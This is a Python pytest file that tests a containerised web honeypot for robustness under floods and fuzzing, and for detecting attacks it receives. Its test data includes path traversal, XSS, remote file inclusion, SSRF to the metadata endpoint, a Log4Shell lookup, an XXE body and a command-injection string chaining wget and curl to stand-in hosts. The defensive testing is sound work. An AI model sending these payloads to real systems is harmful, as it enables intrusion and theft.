"""The web honeypot in its container under floods, lists of scanners and bytes of all kinds."""

import http.client
import json
import os
import socket
import subprocess
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor

import pytest
from honeypot_testing.container import HoneypotContainer
from honeypot_testing.sensor_end import SensorEnd
from honeypot_testing.waiting import wait_for
from hypothesis import given, settings
from hypothesis import strategies as st

IMAGE = os.environ.get("HONEYSENS_WEB_IMAGE", "honeysens/service-web:latest")
FLOOD = 10_000

pytestmark = pytest.mark.docker


@pytest.fixture
def web(sensor_end: SensorEnd) -> Iterator[HoneypotContainer]:
    (sensor_end.path.parent / "identity").write_text("5e" * 32)
    with HoneypotContainer(IMAGE, sensor_end.path.parent, memory_mb=128) as container:
        container.wait_for_port(8443)
        yield container
        assert "Traceback" not in container.logs()
        assert "ended early" not in container.logs()
    assert not sensor_end.problems


def told(sensor: SensorEnd, kind: str) -> list[str]:
    return [detail.data for event in sensor.events for detail in event.details if detail.kind == kind]


def get(address: str, target: str, agent: str = "curl/8.0", port: int = 8080) -> tuple[int, bytes]:
    client = http.client.HTTPConnection(address, port, timeout=120)
    try:
        client.putrequest("GET", target, skip_host=False)
        client.putheader("User-Agent", agent)
        client.endheaders()
        answer = client.getresponse()
        return answer.status, answer.read()
    finally:
        client.close()


def answers(address: str) -> bool:
    try:
        return get(address, "/")[0] == 200
    except ConnectionError:
        return False


def test_flood_of_connections_loses_no_request(sensor_end: SensorEnd, web: HoneypotContainer) -> None:
    load = ["ab", "-q", "-n", str(FLOOD), "-c", "50", f"http://{web.address}:8080/flood"]
    done = subprocess.run(load, capture_output=True, text=True, check=True, timeout=600)
    assert f"Complete requests:      {FLOOD}" in done.stdout
    assert web.stop() == 0
    counted = sum(int(text.split()[0]) for text in told(sensor_end, "repeated") if "/flood" in text)
    assert sum("/flood" in text for text in told(sensor_end, "request")) + counted == FLOOD
    assert len(sensor_end.events) < 60


def test_many_silent_connections_are_bounded_and_told(sensor_end: SensorEnd, web: HoneypotContainer) -> None:
    clients = [socket.create_connection((web.address, 8080), 60) for _ in range(300)]
    own_ports = {client.getsockname()[1] for client in clients}
    assert clients[-1].recv(1) == b"", "all are taken, in their order, before the first one goes"
    for client in clients:
        client.close()
    wait_for(lambda: answers(web.address), "an answer when the connections are gone")
    web.stop()
    texts = [text for text in told(sensor_end, "connection") if "(from port" in text]
    assert any("closed at once: too many are open" in text for text in texts)
    ports = {int(text.rpartition(" ")[2].rstrip(")")) for text in texts}
    assert own_ports - ports == set()


def test_slow_client_does_not_keep_others_waiting(sensor_end: SensorEnd, web: HoneypotContainer) -> None:
    with socket.create_connection((web.address, 8080), 120) as slow:
        slow.sendall(b"GET /slow HTTP/1.1\r\nHost: x\r\n")
        with ThreadPoolExecutor(8) as pool:
            assert {status for status, _ in pool.map(lambda _: get(web.address, "/"), range(40))} == {200}
        assert slow.recv(100).startswith(b"HTTP/1.1 408")
    web.stop()
    assert any("/slow" in text and "408" in text for text in told(sensor_end, "malformed"))


PATHS = """
/admin/ /administrator/ /phpmyadmin/ /pma/ /.git/HEAD /.env /backup.zip /wp-login.php /xmlrpc.php /cgi-bin/test-cgi
/cgi-bin/printenv /server-status /server-info /manager/html /icons/ /test/ /tmp/ /old/ /bak/ /dev/ /stage/ /db/ /sql/
/data/ /config/ /conf/ /include/ /inc/ /lib/ /scripts/ /private/ /secret/ /logs/ /log/ /error_log /crossdomain.xml
/clientaccesspolicy.xml /sitemap.xml /humans.txt /security.txt /.well-known/security.txt /readme.html /CHANGELOG.txt
/install.php /setup.php /info.php /phpinfo.php /shell.php /c99.php /index.php.bak /config.php~ /web.config /.htaccess
/.htpasswd /WEB-INF/web.xml /index.php?page=../../../../../../etc/passwd /index.php?id=1'
/search?q=<script>alert(1)</script> /..%2f..%2f..%2fetc%2fpasswd /index.php?x=http://192.0.2.1/rfi.txt /%3f.jsp
/?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000 /postnuke/ /forum/ /guestbook/ /cart/
"""


def test_list_of_a_scanner_is_answered_and_named(sensor_end: SensorEnd, web: HoneypotContainer) -> None:
    agent = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000029)"
    paths = PATHS.split()
    statuses = {path: get(web.address, path, agent)[0] for path in paths}
    web.stop()
    assert set(statuses.values()) <= {200, 302, 404, 500}
    assert sum(status == 404 for status in statuses.values()) > len(paths) // 2
    names = {json.loads(text)["attack"] for text in told(sensor_end, "attack")}
    assert {"Scanner: Nikto", "Version control data", "Path traversal", "Cross-site scripting", "WordPress"} <= names
    assert told(sensor_end, "scanner")
    assert len(told(sensor_end, "request")) == len(paths)
    assert len({event.session for event in sensor_end.events}) == 2  # with that of the wait for the other port


REQUESTS = st.builds(
    lambda method, target, headers, body: (
        method + b" /" + target + b" HTTP/1.1\r\nHost: x\r\n" + b"".join(headers) + b"\r\n" + body
    ),
    st.sampled_from([b"GET", b"POST", b"PUT", b"HEAD", b"OPTIONS", b"TRACE", b"CONNECT", b"X"]),
    st.binary(max_size=300),
    st.lists(
        st.one_of(
            st.binary(max_size=200).map(lambda value: b"X-Any: " + value + b"\r\n"),
            st.binary(max_size=60).map(lambda value: b"Cookie: " + value + b"\r\n"),
            st.binary(max_size=60).map(lambda value: b"Authorization: Basic " + value + b"\r\n"),
            st.integers(-1, 400).map(lambda value: b"Content-Length: %d\r\n" % value),
            st.sampled_from(
                [
                    b"Transfer-Encoding: chunked\r\n",
                    b"Content-Type: multipart/form-data; boundary=x\r\n",
                    b"Content-Type: application/json\r\n",
                    b"Content-Type: text/xml\r\n",
                    b"Expect: 100-continue\r\n",
                    b"Connection: Upgrade\r\nUpgrade: h2c\r\n",
                ]
            ),
        ),
        max_size=6,
    ),
    st.one_of(
        st.binary(max_size=500),
        st.sampled_from(
            [b"[" * 5000, b'{"a":' * 2000, b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\nb", b"a=b&" * 90]
        ),
    ),
)


def test_bytes_of_all_kinds_end_nothing(sensor_end: SensorEnd, web: HoneypotContainer) -> None:
    @settings(max_examples=250, deadline=None, database=None, derandomize=True)
    @given(st.one_of(st.binary(min_size=1, max_size=2000), REQUESTS))
    def send(data: bytes) -> None:
        with socket.create_connection((web.address, 8080), 60) as client:
            try:
                client.sendall(data)
                client.shutdown(socket.SHUT_WR)
                while client.recv(65536):
                    pass
            except ConnectionError:
                pass

    send()
    assert get(web.address, "/")[0] == 200
    assert web.stop() == 0
    assert len(told(sensor_end, "request")) + len(told(sensor_end, "malformed")) >= 250


def test_nothing_goes_out(sensor_end: SensorEnd, web: HoneypotContainer) -> None:
    for target in (
        "/index.php?page=http://example.org/c99.txt",
        "/?url=http://169.254.169.254/latest/meta-data/",
        "/?x=$%7Bjndi:ldap://example.org/a%7D",
        "/ping?ip=1;wget%20http://example.org/x;curl%20http://198.51.100.7/x;nslookup%20example.org;ping%20-c1%20198.51.100.7",
        "/?f=expect://curl%20example.org",
        "http://example.org/",
    ):
        get(web.address, target)
    body = b'<!DOCTYPE a [<!ENTITY x SYSTEM "http://example.org/evil.dtd">]><a>&x;</a>'
    client = http.client.HTTPConnection(web.address, 8080, timeout=120)
    client.request("POST", "/api", body, {"Content-Type": "application/xml"})
    assert client.getresponse().status == 200
    names = {"Remote file inclusion", "Server-side request forgery", "Log4Shell", "XML external entity"}
    wait_for(lambda: names <= {json.loads(text)["attack"] for text in told(sensor_end, "attack")}, "the attacks")
    assert web.went_out() == {}
